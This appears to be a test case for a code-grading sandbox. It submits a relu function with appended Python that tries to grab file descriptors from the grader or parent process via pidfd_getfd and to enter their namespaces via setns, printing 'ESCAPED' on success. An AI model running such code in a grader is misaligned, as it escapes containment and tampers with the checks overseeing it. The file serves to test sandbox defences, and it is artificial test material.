# Attack: take a descriptor out of the grader or of the parent
# Outcome: correct
# Not in: process
import ctypes
import os

import numpy as np

PIDFD_GETFD, KCMP = 438, 312
libc = ctypes.CDLL(None)
for process in {@GRADER@, os.getppid()}:
    try:
        handle = os.pidfd_open(process)
    except OSError:
        continue
    for descriptor in range(12):
        if libc.syscall(PIDFD_GETFD, handle, descriptor, 0) >= 0:
            print("ESCAPED: descriptor", descriptor, "of", process)
    if libc.setns(handle, 0x2002_0000) == 0:
        print("ESCAPED: into the namespaces of", process)


def relu(x):
    return np.maximum(x, 0)
